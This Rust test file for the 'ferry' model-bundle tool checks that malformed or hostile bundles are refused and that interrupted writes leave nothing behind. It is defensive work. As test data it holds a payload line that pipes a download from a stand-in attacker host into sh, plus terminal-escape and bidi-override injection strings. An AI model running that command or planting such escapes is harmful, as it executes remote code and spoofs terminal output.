//! Hostile bundles and interrupted writes (issue 10, items 7, 8 and 9): each test reproduces the attack
//! on the command line and checks the exit code and the error text.
//!
//! - interrupted writes (SIGKILL, SIGTERM, SIGINT during `pack`, `sign` and `unpack`) leave nothing
//!   beside the output but what was there, and a half-built directory is removed by the next run;
//! - terminal escapes and bidi overrides in a bundle's strings are shown escaped by `inspect`, `audit`,
//!   `verify` (human, GitHub, JUnit) and in error messages;
//! - the reader is as strict as `spec/FORMAT.md`: data after the end-of-archive marker, a compressed
//!   blob of two zstd frames, Fortran-order `.npy`, and file views that `unpack` or `sign` could not
//!   handle (a 300-byte path component, `zz` and `zz/x`, `model.sig`, `.github/…`, `.ferry/…`, paths
//!   differing only in case) are refused by `verify` (exit 1) and by `inspect`, `unpack` and `sign`
//!   (exit 2), with the same message.

use crate::common::*;
use ferry_spec::{Compression, FileEntry};
use std::path::{Path, PathBuf};
use std::process::{Child, Output};
use std::time::{Duration, Instant};

fn credit_risk_bytes(dir: &Path) -> Vec<u8> {
    let out = dir.join("cr.ferry");
    pack(&fixture("credit-risk"), &out);
    std::fs::read(out).unwrap()
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, bytes).unwrap();
    p
}

fn keygen(dir: &Path) -> PathBuf {
    let (sk, pk) = (dir.join("k.key"), dir.join("k.pub"));
    let o = ferry()
        .env_remove("FERRY_KEY_PASSWORD")
        .args(["keygen", "--private", sk.to_str().unwrap(), "--public", pk.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(code(&o), 0, "keygen: {}", stderr(&o));
    sk
}

/// `bundle` is refused the same way by every command: `verify` fails `check` (exit 1) quoting `needle`,
/// and `inspect`, `unpack` and `sign` exit 2 quoting it, writing nothing.
fn refused_everywhere(what: &str, bundle: &[u8], check: &str, needle: &str) {
    let t = tempdir();
    let path = write(t.path(), "evil.ferry", bundle);
    let key = keygen(t.path());
    let before = listing(t.path());
    let o = run(&["verify", path.to_str().unwrap()]);
    let out = stdout(&o);
    assert_eq!(code(&o), 1, "{what}: verify should exit 1:\n{out}{}", stderr(&o));
    let line = out.lines().find(|l| l.split_whitespace().nth(1) == Some(check)).unwrap_or_default();
    assert!(line.trim_start().starts_with("FAIL"), "{what}: {check} should fail:\n{out}");
    assert!(out.contains(needle), "{what}: verify output lacks {needle:?}:\n{out}");
    let target = t.path().join("view");
    for args in [
        vec!["inspect", path.to_str().unwrap()],
        vec!["unpack", path.to_str().unwrap(), target.to_str().unwrap()],
        vec!["sign", path.to_str().unwrap(), "--key", key.to_str().unwrap()],
    ] {
        let o = run(&args);
        let err = stderr(&o);
        assert_eq!(code(&o), 2, "{what}: `ferry {}` should exit 2: {err}", args[0]);
        assert!(err.contains(needle), "{what}: `ferry {}` error lacks {needle:?}:\n{err}", args[0]);
        assert!(err.contains("is not a readable Ferry bundle"), "{what}: {err}");
    }
    assert_eq!(listing(t.path()), before, "{what}: something was written");
    assert_eq!(std::fs::read(&path).unwrap(), bundle, "{what}: the bundle was changed");
}

// ---------------------------------------------------------------------------------------------------------
// Item 9: the reader is as strict as the format.

#[test]
fn bytes_after_the_end_of_archive_marker_are_refused_naming_the_offset() {
    let t = tempdir();
    let good = credit_risk_bytes(t.path());
    // Zero padding, as tar tools write to fill a 10240-byte record, is accepted.
    let mut padded = good.clone();
    padded.resize(good.len().div_ceil(10240) * 10240 + 10240, 0);
    let p = write(t.path(), "padded.ferry", &padded);
    let o = run(&["inspect", p.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    // Anything else is not: a payload appended, or hidden in the padding.
    let mut appended = good.clone();
    appended.extend_from_slice(b"#!/bin/sh\ncurl evil.example | sh\n");
    let needle = format!(
        "non-zero byte at byte {}, after the end-of-archive marker at byte {}",
        good.len(),
        good.len() - 1024
    );
    refused_everywhere("appended payload", &appended, "artifact.layout", &needle);
    let mut hidden = padded.clone();
    hidden[good.len() + 4000] = 1;
    let needle = format!("non-zero byte at byte {}", good.len() + 4000);
    refused_everywhere("a byte in the padding", &hidden, "artifact.layout", &needle);
}

#[test]
fn a_compressed_file_must_be_exactly_one_zstd_frame() {
    let t = tempdir();
    let good = credit_risk_bytes(t.path());
    let original =
        ferry_bundle::Bundle::from_bytes(good.clone()).unwrap().file("config.json").unwrap().into_owned();
    // Two frames: the file's bytes, then more content, declared with the size and digest of both (a
    // reader inflating every frame sees one file, a reader of one frame another).
    let extra = b"{\"decision_threshold\": 0.99}".to_vec();
    let two_frames = reassemble(&good, |m, blobs| {
        let mut blob = zstd::bulk::compress(&original, 19).unwrap();
        blob.extend(zstd::bulk::compress(&extra, 19).unwrap());
        let f = m.files.iter_mut().find(|f| f.path == "config.json").unwrap();
        let mut both = original.clone();
        both.extend_from_slice(&extra);
        f.size = both.len() as u64;
        f.sha256 = hex(&both);
        blobs.insert("config.json".into(), blob);
    });
    refused_everywhere(
        "two zstd frames",
        &two_frames,
        "artifact.digest",
        "bytes follow the zstd frame, from byte",
    );
    // A frame that does not declare its content size (a streaming encoder's) is refused too.
    let no_size = reassemble(&good, |_, blobs| {
        let mut enc = zstd::stream::Encoder::new(Vec::new(), 19).unwrap();
        enc.include_contentsize(false).unwrap();
        std::io::Write::write_all(&mut enc, &original).unwrap();
        blobs.insert("config.json".into(), enc.finish().unwrap());
    });
    refused_everywhere("no content size", &no_size, "artifact.digest", "does not declare its content size");
}

fn hex(bytes: &[u8]) -> String {
    ferry_bundle::digest::sha256(bytes).iter().map(|b| format!("{b:02x}")).collect()
}

/// The credit-risk bundle with extra files (stored uncompressed) in its file view.
fn with_files(good: &[u8], paths: &[&str]) -> Vec<u8> {
    reassemble(good, |m, blobs| {
        for p in paths {
            let data = format!("content of {p}").into_bytes();
            m.files.push(FileEntry {
                path: (*p).to_owned(),
                sha256: hex(&data),
                size: data.len() as u64,
                compression: Compression::None,
                blob: String::new(),
            });
            blobs.insert((*p).to_owned(), data);
        }
        m.files.sort_by(|a, b| a.path.cmp(&b.path));
    })
}

#[test]
fn file_views_that_unpack_or_sign_could_not_handle_are_refused_on_open() {
    let t = tempdir();
    let good = credit_risk_bytes(t.path());
    let long = format!("notes/{}.txt", "a".repeat(296));
    let cases: &[(&str, &[&str], &str)] = &[
        ("a 300-byte component", &[&long], "has a component of 300 bytes; at most 255 are allowed"),
        ("a file that is also a directory", &["zz", "zz/x"], "`zz` is a file and also a directory of `zz/x`"),
        (
            "model.sig in the view",
            &["model.sig"],
            "path `model.sig`: OpenSSF model signing ignores `model.sig`",
        ),
        (
            "a .github file",
            &[".github/workflows/release.yml"],
            "path `.github/workflows/release.yml`: OpenSSF model signing ignores `.github`",
        ),
        ("a nested .git", &["weights/.git/config"], "ignores `.git`"),
        (
            "a reserved .ferry file",
            &[".ferry/manifest.json"],
            "path `.ferry/manifest.json`: the `.ferry/` directory of a bundle holds only",
        ),
        (
            "paths differing only in case",
            &["Config.json"],
            "paths `Config.json` and `config.json` differ only in letter case",
        ),
    ];
    for (what, paths, needle) in cases {
        refused_everywhere(what, &with_files(&good, paths), "artifact.format", needle);
    }
}

#[test]
fn pack_enforces_the_same_file_view_rules() {
    let t = tempdir();
    let src = t.path().join("src");
    copy_dir(&fixture("credit-risk"), &src);
    let toml = std::fs::read_to_string(src.join("ferry.toml")).unwrap();
    let cases: &[(&str, &str, &str)] = &[
        (
            "\"notes/.gitignore\"",
            "notes/.gitignore",
            "path `notes/.gitignore`: OpenSSF model signing ignores `.gitignore`",
        ),
        (
            "\"CONFIG.JSON\"",
            "CONFIG.JSON",
            "paths `CONFIG.JSON` and `config.json` differ only in letter case",
        ),
    ];
    for (entry, file, needle) in cases {
        let p = src.join(file);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, b"x").unwrap();
        std::fs::write(
            src.join("ferry.toml"),
            toml.replacen(
                "onnx = \"model.onnx\"",
                &format!("onnx = \"model.onnx\"\nextra_files = [{entry}]"),
                1,
            ),
        )
        .unwrap();
        let out = t.path().join("out.ferry");
        let o = run(&["pack", src.to_str().unwrap(), "-o", out.to_str().unwrap()]);
        let err = stderr(&o);
        assert_eq!(code(&o), 2, "{file}: {err}");
        assert!(err.contains(needle) && err.contains("ferry.toml: file view: "), "{file}: {err}");
        assert!(!out.exists());
        std::fs::remove_file(&p).unwrap();
    }
    // A 300-byte component is refused when ferry.toml is read, naming the key.
    let long = format!("{}.txt", "b".repeat(296));
    std::fs::write(
        src.join("ferry.toml"),
        toml.replacen(
            "onnx = \"model.onnx\"",
            &format!("onnx = \"model.onnx\"\nextra_files = [\"{long}\"]"),
            1,
        ),
    )
    .unwrap();
    let o = run(&["pack", src.to_str().unwrap(), "-o", t.path().join("x.ferry").to_str().unwrap()]);
    let err = stderr(&o);
    assert_eq!(code(&o), 2, "{err}");
    assert!(err.contains("model.extra_files[0]") && err.contains("has a component of 300 bytes"), "{err}");
}

/// A `.npy` of `rows` x 14 float32 in Fortran order, as numpy writes a non-C-contiguous array.
fn fortran_npy(rows: usize) -> Vec<u8> {
    let mut header = format!("{{'descr': '<f4', 'fortran_order': True, 'shape': ({rows}, 14), }}");
    while (10 + header.len() + 1) % 64 != 0 {
        header.push(' ');
    }
    header.push('\n');
    let mut b = b"\x93NUMPY\x01\x00".to_vec();
    b.extend_from_slice(&(header.len() as u16).to_le_bytes());
    b.extend_from_slice(header.as_bytes());
    let row = [40f32, 50000.0, 0.3, 0.5, 3.0, 0.0, 12.0, 10000.0, 36.0, 5.0, 1.0, 0.0, 1.0, 1000.0];
    // Column-major: every row's first feature, then every row's second, ...
    for v in row {
        for _ in 0..rows {
            b.extend_from_slice(&v.to_le_bytes());
        }
    }
    b
}

#[test]
fn fortran_order_npy_is_refused() {
    let t = tempdir();
    let src = t.path().join("src");
    copy_dir(&fixture("credit-risk"), &src);
    std::fs::write(src.join("golden/f.inputs.npy"), fortran_npy(2)).unwrap();
    let toml = std::fs::read_to_string(src.join("ferry.toml")).unwrap();
    std::fs::write(
        src.join("ferry.toml"),
        toml + "\n[[golden]]\nname = \"fortran\"\ninputs = \"golden/f.inputs.npy\"\nexpected = \"golden/smoke.expected.npz\"\n",
    )
    .unwrap();
    let o = run(&["pack", src.to_str().unwrap(), "-o", t.path().join("x.ferry").to_str().unwrap()]);
    let err = stderr(&o);
    assert_eq!(code(&o), 2, "{err}");
    assert!(err.contains("golden/f.inputs.npy (key `golden[2].inputs`)"), "{err}");
    assert!(err.contains("'fortran_order': True is not supported: Ferry reads C-order arrays only"), "{err}");
    // And as a request.
    let bundle = t.path().join("cr.ferry");
    pack(&fixture("credit-risk"), &bundle);
    let input = write(t.path(), "req.npy", &fortran_npy(2));
    let o = run(&["run", bundle.to_str().unwrap(), "--input", input.to_str().unwrap()]);
    let err = stderr(&o);
    assert_eq!(code(&o), 2, "{err}");
    assert!(err.contains("req.npy: npy header at byte 44: 'fortran_order': True is not supported"), "{err}");
}

// ---------------------------------------------------------------------------------------------------------
// Item 8: terminal escapes in a bundle's strings.

const ESCAPES: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J";

/// Whether `text` holds a character a terminal would act on (besides newlines), or a bidi override.
fn has_raw_controls(text: &str) -> Option<char> {
    text.chars().find(|&c| ferry_spec::display::is_unsafe(c) && c != '\n')
}

#[test]
fn bundle_strings_are_shown_escaped() {
    let t = tempdir();
    let good = credit_risk_bytes(t.path());
    let description = format!("a scorer{ESCAPES}\n  license        MIT");
    let license = "Apache-2.0\u{202e}txt.exe".to_owned();
    let feature = format!("age{ESCAPES}");
    let golden = "smoke\n  PASS  golden.outputs  everything\u{9b}31m".to_owned();
    let evil = reassemble(&good, |m, blobs| {
        // The manifest and the bundled ferry.toml say the same, as if packed from such a source.
        let toml_str = |s: &str| serde_json::to_string(s).unwrap();
        let f = m.files.iter_mut().find(|f| f.path == "ferry.toml").unwrap();
        let text = String::from_utf8(zstd::bulk::decompress(&blobs["ferry.toml"], f.size as usize).unwrap())
            .unwrap();
        let text = text
            .replacen(
                &format!("description = {}", toml_str(&m.model.description)),
                &format!("description = {}", toml_str(&description)),
                1,
            )
            .replacen("license = \"Apache-2.0\"", &format!("license = {}", toml_str(&license)), 1)
            .replacen("name = \"age\"", &format!("name = {}", toml_str(&feature)), 1)
            .replacen("name = \"smoke\"", &format!("name = {}", toml_str(&golden)), 1);
        f.size = text.len() as u64;
        f.sha256 = hex(text.as_bytes());
        blobs.insert("ferry.toml".into(), zstd::bulk::compress(text.as_bytes(), 19).unwrap());
        m.model.description = description.clone();
        m.model.license = license.clone();
        m.inputs[0].features[0].name = feature.clone();
        m.golden[0].name = golden.clone();
    });
    let bundle = write(t.path(), "evil.ferry", &evil);
    let b = bundle.to_str().unwrap();

    let o = run(&["inspect", b]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let out = stdout(&o);
    assert_eq!(has_raw_controls(&out), None, "inspect:\n{out}");
    assert!(out.contains("a scorer\\x1b]0;owned\\x07\\x1b[2J\\n  license        MIT"), "{out}");
    assert!(out.contains("Apache-2.0\\u{202e}txt.exe"), "{out}");
    assert!(out.contains("age\\x1b]0;owned"), "{out}");
    assert!(out.contains("smoke\\n  PASS  golden.outputs  everything\\u{9b}31m"), "{out}");
    // No line was forged.
    assert!(!out.lines().any(|l| l.trim_start().starts_with("PASS")), "{out}");

    let o = run(&["audit", b]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert_eq!(has_raw_controls(&stdout(&o)), None, "audit:\n{}", stdout(&o));

    for format in ["human", "github", "junit"] {
        let o = run(&["verify", b, "--format", format]);
        let out = stdout(&o);
        assert!(matches!(code(&o), 0 | 1), "verify --format {format}: {}", stderr(&o));
        assert_eq!(has_raw_controls(&out), None, "verify --format {format}:\n{out}");
        if format != "github" {
            // (GitHub annotations are for failures only; this bundle passes.)
            assert!(out.contains("smoke\\n  PASS  golden.outputs  everything\\u{9b}31m"), "{format}:\n{out}");
        }
        if format == "junit" {
            roxmltree::Document::parse(&out).unwrap();
        }
        if format == "github" {
            assert!(out.lines().all(|l| l.starts_with("::")), "{out}");
        }
    }

    // Error messages quote the bundle too: a request breaking the escaped feature's range.
    let input = write(
        t.path(),
        "req.json",
        b"{\"features\": [[5, 50000, 0.3, 0.5, 3, 0, 12, 10000, 36, 5, 1, 0, 1, 1000]]}",
    );
    let o = run(&["run", b, "--input", input.to_str().unwrap()]);
    let err = stderr(&o);
    assert_eq!(code(&o), 1, "{err}");
    assert_eq!(has_raw_controls(&err), None, "run:\n{err}");
    assert!(err.contains("age\\x1b]0;owned\\x07\\x1b[2J"), "{err}");
}

// ---------------------------------------------------------------------------------------------------------
// Item 7: interrupted writes leave nothing behind.

/// The size of the unnamed (`O_TMPFILE`) file the process `pid` is writing in `dir`, if any: Linux
/// shows it in /proc as `DIR/#INODE (deleted)`.
#[cfg(target_os = "linux")]
fn unnamed_file_size(pid: u32, dir: &Path) -> Option<u64> {
    let prefix = format!("{}/#", dir.display());
    for e in std::fs::read_dir(format!("/proc/{pid}/fd")).ok()?.flatten() {
        let Ok(target) = std::fs::read_link(e.path()) else { continue };
        let target = target.to_string_lossy().into_owned();
        if target.starts_with(&prefix) && target.ends_with(" (deleted)") {
            return std::fs::metadata(e.path()).ok().map(|m| m.len());
        }
    }
    None
}

#[cfg(target_os = "linux")]
fn signal(child: &Child, name: &str) {
    let o = std::process::Command::new("kill").args(["-s", name, &child.id().to_string()]).output().unwrap();
    assert!(o.status.success(), "kill -s {name}: {}", String::from_utf8_lossy(&o.stderr));
}

/// Whether this process ignores SIGINT, which its children then inherit: a shell starts a background job
/// without job control that way, and such a `ferry` rightly keeps running through SIGINT.
#[cfg(target_os = "linux")]
fn sigint_ignored() -> bool {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let mask = status.lines().find_map(|l| l.strip_prefix("SigIgn:")).map(str::trim).unwrap_or("0");
    u64::from_str_radix(mask, 16).is_ok_and(|m| m & (1 << (2 - 1)) != 0)
}

/// Waits (bounded) until `ready` says the child is midway through its write, then sends `sig`. Returns
/// false when the child finished first.
#[cfg(target_os = "linux")]
fn interrupt(mut child: Child, sig: &str, ready: impl Fn(u32) -> bool) -> (bool, Output) {
    let started = Instant::now();
    let pid = child.id();
    let mut caught = false;
    while started.elapsed() < Duration::from_secs(120) {
        if child.try_wait().unwrap().is_some() {
            break;
        }
        if ready(pid) {
            signal(&child, sig);
            caught = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    if !caught && child.try_wait().unwrap().is_none() {
        let _ = child.kill();
    }
    (caught, child.wait_with_output().unwrap())
}

#[cfg(target_os = "linux")]
#[test]
fn interrupted_writes_leave_nothing_behind() {
    use std::os::unix::process::ExitStatusExt as _;
    let t = tempdir();
    let src = t.path().join("src");
    std::fs::create_dir(&src).unwrap();
    ferry_packager::synthetic::source(&src, 256 << 20).unwrap();
    let out = t.path().join("out");
    std::fs::create_dir(&out).unwrap();
    // What the directory held before: another bundle, and the bundle being replaced.
    let small = credit_risk_bytes(t.path());
    std::fs::write(out.join("other.ferry"), &small).unwrap();
    std::fs::write(out.join("model.ferry"), &small).unwrap();
    let before = listing(&out);
    let untouched = |what: &str| {
        assert_eq!(listing(&out), before, "{what}: left something behind");
        assert_eq!(std::fs::read(out.join("model.ferry")).unwrap(), small, "{what}: damaged the old bundle");
        assert_eq!(std::fs::read(out.join("other.ferry")).unwrap(), small, "{what}");
    };
    let target = out.join("model.ferry");
    for sig in ["KILL", "TERM", "INT"] {
        if sig == "INT" && sigint_ignored() {
            eprintln!(
                "SIGINT not tried: this test runs with SIGINT ignored (a background job), as ferry would"
            );
            continue;
        }
        let child = ferry()
            .args(["pack", src.to_str().unwrap(), "-o", target.to_str().unwrap()])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // Midway: the unnamed output holds 32 MiB of the 256 MiB of weights.
        let (caught, o) =
            interrupt(child, sig, |pid| unnamed_file_size(pid, &out).is_some_and(|n| n >= 32 << 20));
        assert!(caught, "pack finished before SIG{sig} ({}): {}", o.status, stderr(&o));
        assert!(o.status.signal().is_some(), "SIG{sig}: pack exited with {}", o.status);
        untouched(&format!("pack interrupted by SIG{sig}"));
    }

    // Signing in place, interrupted while it writes the new bundle.
    let big = t.path().join("big.ferry");
    pack(&src, &big);
    let big_bytes = std::fs::read(&big).unwrap();
    let key = keygen(t.path());
    let around = listing(t.path());
    let child = ferry()
        .args(["sign", big.to_str().unwrap(), "--key", key.to_str().unwrap()])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let (caught, o) = interrupt(child, "KILL", |pid| unnamed_file_size(pid, t.path()).is_some());
    if caught {
        assert_eq!(std::fs::read(&big).unwrap(), big_bytes, "sign interrupted: the bundle was changed");
    } else {
        assert_eq!(code(&o), 0, "{}", stderr(&o));
    }
    assert_eq!(listing(t.path()), around, "sign interrupted: left something behind");

    // Unpacking builds a directory, which cannot be unnamed: killed, it leaves a locked temporary
    // directory, which the next write into that directory removes.
    let view = out.join("view");
    let child = ferry()
        .args(["unpack", big.to_str().unwrap(), view.to_str().unwrap()])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let partial = |_| {
        listing(&out).iter().any(|p| {
            p.starts_with(".ferry-partial-")
                && p.ends_with("weights.bin")
                && std::fs::metadata(out.join(p)).is_ok_and(|m| m.len() >= 32 << 20)
        })
    };
    let (caught, o) = interrupt(child, "KILL", partial);
    assert!(caught, "unpack finished before SIGKILL: {}", stderr(&o));
    assert!(!view.exists());
    let left: Vec<String> = listing(&out).into_iter().filter(|p| !before.contains(p)).collect();
    assert!(left.iter().all(|p| p.starts_with(".ferry-partial-")), "{left:?}");
    // Once it is older than the grace period (a live writer locks its directory at once), it goes.
    std::thread::sleep(ferry_atomic::GRACE + Duration::from_millis(500));
    let o = run(&["unpack", out.join("other.ferry").to_str().unwrap(), out.join("view2").to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let mut expected = before.clone();
    expected.extend(listing(&out.join("view2")).iter().map(|p| format!("view2/{p}")));
    expected.push("view2".into());
    expected.sort();
    assert_eq!(listing(&out), expected);
}
